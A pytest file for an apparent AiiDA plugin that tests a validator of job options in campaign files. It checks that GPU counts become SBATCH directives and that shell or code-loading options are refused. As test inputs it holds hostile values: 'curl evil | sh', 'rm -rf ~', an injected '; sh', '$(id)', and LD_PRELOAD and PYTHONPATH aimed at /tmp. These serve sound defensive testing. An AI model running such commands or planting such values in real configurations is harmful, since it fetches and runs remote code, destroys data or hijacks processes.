"""Job options a campaign file may set: resources yes, anything that runs a command no; ``gpus`` → ``--gres``."""

import pathlib

import pytest

from aiida_alml.job_options import JobOptionError, campaign_metadata, campaign_options


def test_resources_pass_and_gpus_become_a_gres_directive():
    options = {'resources': {'num_machines': 1}, 'queue_name': 'gpu', 'max_wallclock_seconds': 600, 'gpus': 2,
               'environment_variables': {'OMP_NUM_THREADS': 4, 'CUDA_VISIBLE_DEVICES': '0,1'}}
    converted = campaign_options(options, 'train.train.metadata.options')
    assert converted['custom_scheduler_commands'] == '#SBATCH --gres=gpu:2'
    assert 'gpus' not in converted and converted['queue_name'] == 'gpu'
    assert converted['environment_variables'] == {'OMP_NUM_THREADS': '4', 'CUDA_VISIBLE_DEVICES': '0,1'}
    assert campaign_metadata({'label': 'x', 'options': {'gpus': 1}}, 'm')['options']['custom_scheduler_commands']


@pytest.mark.parametrize(('options', 'message'), [
    ({'prepend_text': 'curl evil | sh'}, r'`o.prepend_text` may not be set in a campaign file: shell commands belong'),
    ({'append_text': 'rm -rf ~'}, r'`o.append_text` may not be set'),
    ({'custom_scheduler_commands': '#SBATCH -A x'}, r'`o.custom_scheduler_commands` .* use `gpus: N`'),
    ({'mpirun_extra_params': ['; sh']}, r'`o.mpirun_extra_params` may not be set'),
    ({'parser_name': 'core.arithmetic.add'}, r'`o.parser_name` may not be set .* allowed here: account'),
    ({'environment_variables': {'PYTHONPATH': '/tmp/evil'}}, r'`o.environment_variables.PYTHONPATH` may not be set'),
    ({'environment_variables': {'LD_PRELOAD': '/tmp/x.so'}}, r'LD_PRELOAD` may not be set'),
    ({'environment_variables': {'OMP_NUM_THREADS': '$(id)'}}, r'OMP_NUM_THREADS`: \'\$\(id\)\' is not a plain'),
    ({'environment_variables': ['OMP_NUM_THREADS=1']}, r'`o.environment_variables`: expected a mapping'),
    ({'gpus': 0}, r'`o.gpus`: 0 is not a positive number'),
    ({'gpus': True}, r'`o.gpus`: True is not a positive number'),
    ('cpu', r'`o`: expected a mapping of job options'),
])
def test_options_that_run_or_load_code_are_refused(options, message):
    with pytest.raises(JobOptionError, match=message):
        campaign_options(options, 'o')


def test_metadata_keys_that_change_the_record_are_refused():
    with pytest.raises(JobOptionError, match=r'`m.store_provenance`: a campaign file may set only'):
        campaign_metadata({'store_provenance': False}, 'm')
    with pytest.raises(JobOptionError, match=r'`m.dry_run`'):
        campaign_metadata({'dry_run': True}, 'm')


def test_campaign_file_refuses_shell_options_in_any_namespace(tmp_path, aiida_localhost):
    """Through the campaign conversion: metadata.options of a stage and a labeller's options Dict."""
    import yaml

    from aiida_alml.campaign import CampaignError, inputs_from_config

    def load_campaign(path):  # conversion only: these partial files are not whole campaigns
        return inputs_from_config(yaml.safe_load(path.read_text()), path.parent)

    (tmp_path / 'c.yaml').write_text('train:\n  train:\n    metadata:\n      options: {prepend_text: "id"}\n')
    with pytest.raises(CampaignError, match=r'`train.train.metadata.options.prepend_text` may not be set'):
        load_campaign(tmp_path / 'c.yaml')
    (tmp_path / 'c.yaml').write_text('label:\n  ase:\n    options: {environment_variables: {PYTHONPATH: /x}}\n')
    with pytest.raises(CampaignError, match=r'`label.ase.options.environment_variables.PYTHONPATH` may not be set'):
        load_campaign(tmp_path / 'c.yaml')
    (tmp_path / 'c.yaml').write_text('explore:\n  md:\n    metadata:\n      options: {gpus: 1, queue_name: gpu}\n')
    inputs = load_campaign(tmp_path / 'c.yaml')
    assert inputs['explore']['md']['metadata']['options'] == {
        'custom_scheduler_commands': '#SBATCH --gres=gpu:1', 'queue_name': 'gpu'}
